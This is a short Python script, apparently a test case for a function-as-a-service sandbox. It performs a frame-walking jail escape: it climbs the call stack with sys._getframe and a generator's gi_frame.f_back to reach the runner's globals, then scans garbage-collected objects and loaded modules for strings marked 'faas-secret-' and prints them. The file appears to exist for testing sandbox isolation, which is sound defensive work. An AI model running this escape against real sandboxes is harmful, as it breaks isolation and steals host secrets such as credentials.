# Climbs the frames to the runner and changes what it will report.
# Known from: frame-walking jail escapes (generator.gi_frame.f_back).
# expect: success
import gc, sys

frame, names = sys._getframe(), []
while frame:
    names.append(frame.f_code.co_name)
    for name in ("_faas_host", "exit_code", "result", "source", "input_json"):
        if name in frame.f_globals or name in frame.f_locals:
            names.append(name)
    frame = frame.f_back
print(names)


def generator():
    yield found.gi_frame.f_back.f_back.f_globals


found = generator()
try:
    print(sorted(next(found))[:5])
except BaseException as error:
    print(type(error).__name__)
for thing in gc.get_objects():
    if isinstance(thing, str) and ("faas-" + "secret-") in thing:
        print(thing)
for module in list(sys.modules.values()):
    for value in list(vars(module).values()) if hasattr(module, "__dict__") else ():
        if isinstance(value, (str, bytes)) and str("faas-" + "secret-") in str(value):
            print(value)
